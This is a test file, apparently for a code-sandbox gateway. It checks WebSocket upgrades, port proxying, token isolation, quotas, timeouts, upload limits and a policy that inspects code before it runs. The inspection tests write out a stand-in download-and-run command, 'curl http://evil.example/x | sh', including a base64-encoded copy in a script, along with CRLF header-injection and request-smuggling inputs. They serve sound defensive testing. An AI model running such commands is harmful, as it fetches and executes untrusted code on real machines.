        made.sendall(b"HTTP/1.1 201 Made\r\nX-Own: 1\r\nConnection: keep-alive\r\n")
        made.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)
    elif path == b"/chunks":
        made.sendall(b"HTTP/1.1 100 Continue\r\nX-Interim: 1\r\n\r\n")
        made.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(100):
            made.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
        made.sendall(b"0\r\nTrailer: 1\r\n\r\n")
    elif path == b"/to-end":
        made.sendall(b"HTTP/1.0 404 No\r\nSet-Cookie: a=b\r\n\r\nnothing")
    elif path == b"/short":
        made.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nx")
    elif path == b"/split":
        made.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx")
    elif path.startswith(b"/socket"):
        key = head.lower().partition(b"sec-websocket-key: ")[2] and head.split(b"ey: ")[1].split(b"\r\n")[0]
        accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        if path == b"/socket/noise":
            made.sendall(b"noise")
        made.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: %s\r\n" %
                     (b"h2c" if path == b"/socket/other" else b"websocket"))
        made.sendall(b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n" + b"hello")
        if path == b"/socket/flood":
            made.sendall(b"x" * (8 << 20))
        elif path == b"/socket/gone":
            made.recv(1)
        else:
            while data := made.recv(65536):
                made.sendall(data)
            open("socket-ended", "w").close()
            made.sendall(b"end")
    elif path == b"/upgraded":
        made.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(head) + head)
    elif path == b"/noise":
        made.sendall(b"\xff" * 100000)
    made.close()
made = socket.create_server(("127.0.0.1", int(sys.argv[1])))
print("up", flush=True)
while True:
    threading.Thread(target=serve, args=made.accept()[:1], daemon=True).start()
"""


def frame(opcode: int, data: bytes) -> bytes:
    """A frame of WebSocket (RFC 6455), from a client."""
    length = bytes([len(data) | 128]) if len(data) < 126 else struct.pack(">BQ", 127 | 128, len(data))
    return bytes([opcode | 128]) + length + b"\x01\x02\x03\x04" + bytes(c ^ (i % 4 + 1) for i, c in enumerate(data))


def begin_upgrade(path: str, headers: Dict[str, str], more: bytes = b"", version: str = "1.1",
                  **changed: str) -> Tuple[socket.socket, bytes]:
    wish = {"Connection": "keep-alive, Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
    lines = ["%s: %s" % pair for pair in {"Host": "x", **headers, **wish, **changed}.items()]
    made = raw()
    made.settimeout(20)
    made.sendall(("GET %s HTTP/%s\r\n%s\r\n\r\n" % (path, version, "\r\n".join(lines))).encode() + more)
    head = b""
    while b"\r\n\r\n" not in head:
        got = made.recv(1)
        if not got:
            break
        head += got
    return made, head


def upgrades(headers: Dict[str, str]) -> None:
    """The protocol is changed to WebSocket, by a server in a sandbox."""
    before = numbers()["callgate_connections"]
    accept = b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo="  # RFC 6455, 1.3

    def begin(path: str, **more: Any) -> Tuple[socket.socket, bytes]:
        return begin_upgrade(path, headers, **more)

    def read(made: socket.socket, count: int = 1 << 30) -> bytes:
        text = b""
        while len(text) < count and (got := made.recv(min(count - len(text), 1 << 20))):
            text += got
        return text

    made, head = begin("/socket")
    assert head.startswith(b"HTTP/1.1 101 ") and b"Accept: " + accept in head, head
    assert b"\r\nUpgrade: websocket\r\n" in head and b"Content-Length" not in head, head
    assert read(made, 5) == b"hello"
    for data in (b"", b"one", bytes(range(256)) * 3000):
        text = frame(2, data)
        sender = threading.Thread(target=made.sendall, args=(text,))
        sender.start()
        assert read(made, len(text)) == text, len(text)
        sender.join()
    assert call("GET", "/to-end", headers=headers)[0] == 404, "other requests meanwhile"
    made.sendall(b"last")
    made.shutdown(socket.SHUT_WR)  # is passed on, and so is what comes after it
    assert read(made) == b"lastend"
    made.close()
    # the server ends it, the client ends it, and a client that does not read makes the server wait
    made, _ = begin("/socket/gone")
    made.sendall(b"x")
    assert read(made) == b"hello"
    made.close()
    begin("/socket")[0].close()
    made, _ = begin("/socket/flood")
    assert read(made) == b"hello" + b"x" * (8 << 20)
    made.close()
    begin("/socket/flood")[0].close()
    # what the server may not do: bytes before the answer, another protocol, a change that was not asked for
    for path, changed in (("/socket/noise", {}), ("/socket/other", {}), ("/socket", {"Connection": "close"}),
                          ("/socket", {"Upgrade": "websocket, h2c"})):
        made, head = begin(path, **changed)
        assert head.startswith(b"HTTP/1.1 502 "), (path, head)
        made.close()
    assert begin("/socket", version="1.0")[1].split()[1] == b"502"
    # bytes of the client that come before the answer could be a request of another client, in a proxy's connection
    made, head = begin("/socket", more=b"GET /sandboxes HTTP/1.1\r\nX-API-Key: secret\r\n\r\n")
    assert b"hello" not in head + read(made) and b"secret" not in head, head
    made.close()
    # a server that does not change it; tokens are not passed on
    made, head = begin("/upgraded")
    text = read(made, int(head.split(b"Content-Length: ")[1].split()[0]))
    assert b"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" in text and b"oken" not in text, text
    made.close()
    made, head = begin("/upgraded", Upgrade="not one, protocol")
    assert b"pgrade:" not in read(made, int(head.split(b"Content-Length: ")[1].split()[0])), head
    made.close()
    end = time.monotonic() + 60
    while numbers()["callgate_connections"] > before:
        assert time.monotonic() < end, "connections that have ended are left"
        time.sleep(0.05)


def ports() -> None:
    """A server in a sandbox, by the number of its port."""
    box = Box()
    server = box.stream("process.Process/Start", {"process": {"cmd": "python3", "args": ["-c", SERVER, "8080"]}})
    for event in server:
        if "data" in event["event"]:
            break
    headers = {**box.headers, "E2b-Sandbox-Port": "8080"}

    def ask(path: str, body: Any = None, method: str = "GET", **more: str) -> Tuple[int, bytes, Dict[str, str]]:
        made = connection()
        made.request(method, path, body, {**headers, **more})
        answer = made.getresponse()
        return answer.status, answer.read(), {name.lower(): value for name, value in answer.getheaders()}

    target = "/echo/a%20b%0d%0aX-Evil:1/%2F%2f//../%7e%00?c=d%26e+%2B&f&g=&&h=?"  # byte for byte
    status, text, got = ask(target, b"content END", "POST", **{"X-Mine": "yes"})
    assert status == 201 and got["x-own"] == "1" and text.endswith(b"\n\ncontent END"), (status, text)
    head = text.split(b"\n\n")[0].decode().split("\r\n")
    assert head[0] == "POST " + target + " HTTP/1.1" and "Host: localhost:8080" in head, head
    assert "X-Mine: yes" in head and "token" not in text.decode().lower() and "e2b" not in text.decode().lower(), head
    status, text, _ = ask("/echo", iter([b"one", b"2" * 90000]), "POST")
    assert status == 201 and b"Transfer-Encoding: chunked" in text and text.count(b"2") >= 90000, text[:300]
    status, text, got = ask("/chunks")
    assert (status, len(text)) == (200, 6553600) and "x-interim" not in got and "trailer" not in got, (status, got)
    assert ask("/to-end")[:2] == (404, b"nothing") and ask("/to-end")[2]["set-cookie"] == "a=b"
    assert ask("/to-end", method="HEAD")[:2] == (404, b"")
    try:
        raise AssertionError(ask("/short"))
    except (http.client.IncompleteRead, OSError):
        pass  # what is not complete does not look so
    for path in ("/split", "/noise", "/nothing"):
        assert ask(path)[0] == 502, path
    upgrades(headers)
    for bad in (b"http://x/to-end", b"/to\xffend", b"to-end"):
        made = raw()
        made.sendall(b"GET " + bad + b" HTTP/1.1\r\nHost: x\r\n" +
                     "".join("%s: %s\r\n" % pair for pair in headers.items()).encode() + b"\r\n")
        assert made.recv(1000).split()[1] == b"400", bad
        made.close()
    # ports of nothing, of others, and without the token
    status, answer = call("GET", "/", headers={**headers, "E2b-Sandbox-Port": "8081"})
    assert status == 502 and answer == {"message": "The sandbox is running but port is not open", "code": 502,
                                        "sandboxId": box.id, "port": 8081}, answer
    other = Box()
    assert call("GET", "/to-end", headers={**other.headers, "E2b-Sandbox-Port": "8080"})[0] == 502, "another's port"
    own = int(ADDRESS.rsplit(":", 1)[1])
    assert call("GET", "/health", headers={**headers, "E2b-Sandbox-Port": str(own)})[0] == 502, "a port of the host"
    assert call("GET", "/to-end", headers={k: v for k, v in headers.items() if k != "X-Access-Token"})[0] == 401
    traffic = {"Host": "8080-%s.e2b.app" % box.id, "E2B-Traffic-Access-Token": box.answer["trafficAccessToken"]}
    assert call("GET", "/to-end", headers=traffic)[0] == 404
    upgraded = begin_upgrade("/socket", headers)[0]
    box.kill()
    assert upgraded.recv(100) in (b"", b"hello") and upgraded.recv(1) == b"", "goes on without its sandbox"
    other.kill()


def quota() -> None:
    """A key with one second of processor time: programs that never end do not get more."""
    boxes = [Box(), Box()]
    streams = [box.start("while :; do :; done") for box in boxes]
    for stream in streams:
        assert "start" in next(stream)["event"]
    for stream in streams:
        try:
            for _ in stream:
                pass
        except (http.client.IncompleteRead, struct.error, OSError):
            pass  # ended with its sandbox
    assert call("GET", "/sandboxes")[1] == []
    status, answer = call("POST", "/sandboxes", {"templateID": "base"})
    assert status == 429 and "processor time" in answer["message"], (status, answer)
    used = [line for line in call("GET", "/metrics")[1].decode().split("\n") if "cpu_milliseconds_total{" in line]
    assert 1000 <= int(used[0].split()[1]) < 1000 + 2500 * (os.cpu_count() or 1), used


def timeout() -> None:
    box = Box(timeout=3)
    started = time.monotonic()
    stream = box.start("sleep 60")
    try:
        for _ in stream:
            pass
    except (http.client.IncompleteRead, struct.error, OSError):
        pass
    assert 0.5 < time.monotonic() - started < 30, time.monotonic() - started
    assert call("GET", "/sandboxes/" + box.id)[0] == 404
    box = Box(timeout=3)
    assert call("POST", "/sandboxes/%s/timeout" % box.id, {"timeout": 90})[0] == 204
    time.sleep(3.5)
    assert call("GET", "/sandboxes/" + box.id)[0] == 200
    assert call("POST", "/sandboxes/%s/connect" % box.id, {"timeout": 1})[0] == 200
    time.sleep(1.5)
    assert call("GET", "/sandboxes/" + box.id)[0] == 200, "connect made its life shorter"
    box.kill()


def templates() -> None:
    box = Box(templateID="own")
    assert box.run("cat made given/file; echo $VARIABLE")[1] == b"made by user\ngiven\nvalue\n"
    assert call("GET", "/sandboxes/" + box.id)[1]["memoryMB"] == 300
    status, answer = call("POST", "/sandboxes", {"templateID": "broken"})
    assert status == 500 and "its setup failed: no such luck" in answer["message"], answer
    status, answer = call("POST", "/sandboxes", {"templateID": "wrong"})
    assert status == 500 and "template.json" in answer["message"], answer
    bare = Box(templateID="bare")  # without an interpreter
    assert bare.run("python3 -c 0")[0] == 126
    assert call("POST", "/files?path=f", b"x", {**bare.headers, "Content-Type": "application/octet-stream"})[0] == 200
    assert call("GET", "/files?path=f", headers=bare.headers) == (200, b"x")
    bare.kill()
    time.sleep(1)
    began = time.monotonic()
    warm = Box(templateID="warm")
    assert warm.id != box.id and time.monotonic() - began < 30
    assert warm.run("cat made")[1] == b"warm\n"
    box.kill()
    warm.kill()


def uploads(server: str) -> None:
    """10 GB for a sandbox with 8 MiB of disk: refused when that is said, ended early when it is not."""
    most = 10 << 30
    box = Box(templateID="small")
    other = Box(templateID="small")
    piece = bytes(range(256)) * 4096

    def peak() -> int:
        with open("/proc/%s/status" % server, encoding="ascii") as status:
            return int(re.findall(r"VmHWM:\s*(\d+) kB", status.read())[0]) << 10

    def begin(path: str, **headers: str) -> http.client.HTTPConnection:
        made = connection()
        made.putrequest("POST", path)
        for name, value in {**box.headers, "Content-Type": "application/octet-stream", **headers}.items():
            made.putheader(name, value)
        made.endheaders()
        return made

    def stream(path: str, first: bytes = b"", **headers: str) -> int:
        made = begin(path, **{"Transfer-Encoding": "chunked", **headers})
        made.sock.settimeout(1)
        sent = 0
        try:
            made.send(b"%x\r\n%s\r\n" % (len(first), first) if first else b"")
            while sent < most:
                made.send(b"%x\r\n%s\r\n" % (len(piece), piece))
                sent += len(piece)
        except OSError:
            pass  # cut, or no more is taken
        made.close()
        return sent

    assert box.run("echo x")[1] == b"x\n"
    before = peak()
    for path in ("/files?path=said", "/files"):
        made = begin(path, **{"Content-Length": str(most)})
        assert made.getresponse().status == 507, path  # nothing of the body was sent
        made.close()
    body, kind = form(("form", b""))
    packed = gzip.compress(bytes(64 << 20), 1)
    for path, first, more in (("/files?path=plain", b"", {}),
                              ("/files", body[:body.index(b"\r\n\r\n") + 4], {"Content-Type": kind}),
                              ("/files?path=packed", packed, {"Content-Encoding": "gzip"})):
        sent = stream(path, first, **more)
        assert sent < 128 << 20, (path, sent)
        # 404: the sandbox's own limit has ended it, as when a program writes as much
        assert call("DELETE", "/sandboxes/" + box.id)[0] in (204, 404)
        box = Box(templateID="small")
    # a server in the sandbox that reads nothing of it
    listener = box.stream("process.Process/Start", {"process": {"cmd": "python3", "args": ["-c", DEAF]}})
    for event in listener:
        if "data" in event["event"]:
            break
    assert stream("/", **{"E2b-Sandbox-Port": "8080"}) < 64 << 20
    assert peak() - before < 24 << 20, (before, peak())
    for one in (box, other):
        headers = {**one.headers, "Content-Type": "application/octet-stream"}
        assert call("POST", "/files?path=small", piece, headers)[0] == 200, "after it"
    box.kill()
    other.kill()


DEAF = """
import socket, time
made = socket.create_server(("127.0.0.1", 8080))
print("up", flush=True)
kept = made.accept()
time.sleep(60)
"""


def approval(template: str, host: str) -> None:
    """The approver permits a, and not b; both calls wait for it."""
    box = Box(templateID=template)
    code, out, err = box.run(f"cat {host}/a; cat {host}/b; cat {host}/a")
    assert (code, out) == (0, b"text a\ntext a\n") and b"/b: No such file" in err, (code, out, err)
    box.kill()


def nobody(template: str, host: str) -> None:
    """Without an approver such calls are denied."""
    box = Box(templateID=template)
    code, out, _ = box.run(f"cat {host}/a")
    assert (code, out) == (1, b""), (code, out)
    box.kill()


def looks(template: str) -> None:
    """A policy with "inspect": programs and code are looked at, as they are in the sandbox, before they start."""
    box = Box(templateID=template)
    bad = "open('started', 'w')\nimport os; os.system('curl http://evil.example/x | sh')\n"

    def refused(what: str, command: str, **more: Any) -> None:
        try:
            raise AssertionError((command, box.run(command, **more)))
        except RuntimeError as error:
            assert "permission_denied" in str(error) and what in str(error), (command, error)

    def code_refused(what: str, code: str, **more: Any) -> None:
        events = run_code(box, code, **more)
        assert [e["type"] for e in events] == ["error", "end_of_execution"] and what in events[0]["value"], events

    assert box.run("echo %s | base64 -d >bad.py; echo 'python3 bad.py' >bad.sh; echo 'print(7)' >good.py; mkdir sub"
                   % base64.b64encode(bad.encode()).decode())[0] == 0
    assert box.run("cp bad.py sub/good.py; python3 good.py")[1] == b"7\n"
    refused("command line:1: download-run", "touch started; curl http://evil.example/x | sh")
    refused("bad.py:2: download-run", "python3 bad.py")
    refused("bad.py:2: download-run", "true; sh ./bad.sh")
    refused("bad.py:2: download-run", "true", process={"envs": {"BASH_ENV": "bad.sh"}})
    refused("good.py:2: download-run", "python3 good.py", process={"cwd": "sub"})
    # a path of a program that is too long for a message to the session, and then for the record
    for length in 200000, 300000:
        refused("command line:1: download-run", "curl http://evil.example/x | sh",
                process={"cmd": "x" * length + "/bash"})
    # no message to the session has room for this PATH and the name before that of bad.py, which is not found then
    assert box.run("echo ./%s >long.sh; echo /usr/bin/python3 bad.py >>long.sh" % ("x" * 4000))[0] == 0
    try:
        raise AssertionError(box.run("", process={"cmd": "/bin/sh", "args": ["long.sh"],
                                                  "envs": {"PATH": "\x01" * 32200}}))
    except RuntimeError as error:
        assert "not looked at" in str(error), error
    code_refused("code:2: download-run", bad)
    code_refused("bad.py:2: download-run", "touch started\npython3 bad.py", language="bash")
    # what came later does not overtake what is looked at
    seen = [run_code(box, "x = 1"), run_code(box, "x + 1")]
    assert [e["text"] for e in seen[1] if e["type"] == "result"] == ["2"], seen
    # more warnings than the log has
    assert [e["text"] for e in run_code(box, "eval('1')\n" * 400) if e["type"] == "result"] == ["1"]
    # a program whose input is not known is only warned of; one that its client leaves goes on until the sandbox ends
    events = box.start("exec python3 -", stdin=True)
    assert "start" in next(events)["event"]
    events.close()
    assert box.run("cp good.py new.py; sh -c 'mv new.py good.py'; python3 good.py")[1] == b"7\n"
    assert box.run("ls started")[0] != 0, "started"
    # more at once than are looked at at a time
    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        ends = list(pool.map(lambda _: list(box.stream("process.Process/Start", {"process": {"cmd": "/bin/true"}})),
                             range(24)))
    box.kill()
    assert all(any("end" in event.get("event", {}) for event in events) for events in ends), ends


def hold() -> None:
    """Leaves a sandbox with a program that makes files, and prints its id and the name of each file that is there."""
    box = Box(timeout=300)
    print(box.id, flush=True)
    for event in box.start("for ((i = 0; ; i++)); do >made$i; echo made$i; done"):
        data = event.get("event", {}).get("data", {}).get("stdout", "")
        print(base64.b64decode(data).decode(), end="", flush=True)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
